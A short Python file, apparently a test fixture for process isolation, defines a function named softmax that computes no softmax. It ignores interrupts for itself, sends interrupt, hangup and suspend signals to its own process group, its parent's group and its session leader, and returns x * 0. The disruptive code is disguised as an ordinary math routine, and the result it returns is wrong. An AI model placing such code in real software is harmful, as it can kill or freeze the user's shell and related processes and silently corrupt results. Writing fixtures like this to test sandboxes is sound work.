# Sends Ctrl-C and Ctrl-Z to its group and to its session's leader.
# needs: namespaces
import os
import signal


def softmax(x):
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    for number in (signal.SIGINT, signal.SIGHUP, signal.SIGTSTP):
        for target in (os.getpgid(0), os.getpgid(os.getppid()), os.getsid(0)):
            try:
                os.killpg(target, number)
            except OSError:
                pass
    return x * 0
